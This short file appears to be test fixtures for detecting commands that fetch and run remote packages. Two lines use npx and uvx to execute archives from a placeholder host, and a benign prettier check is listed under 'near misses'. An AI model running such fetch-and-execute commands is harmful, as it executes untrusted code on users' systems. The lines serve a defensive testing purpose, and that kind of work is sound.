npx https://a.invalid/t.tgz
uvx https://a.invalid/t.whl
# near misses
npx prettier --check .
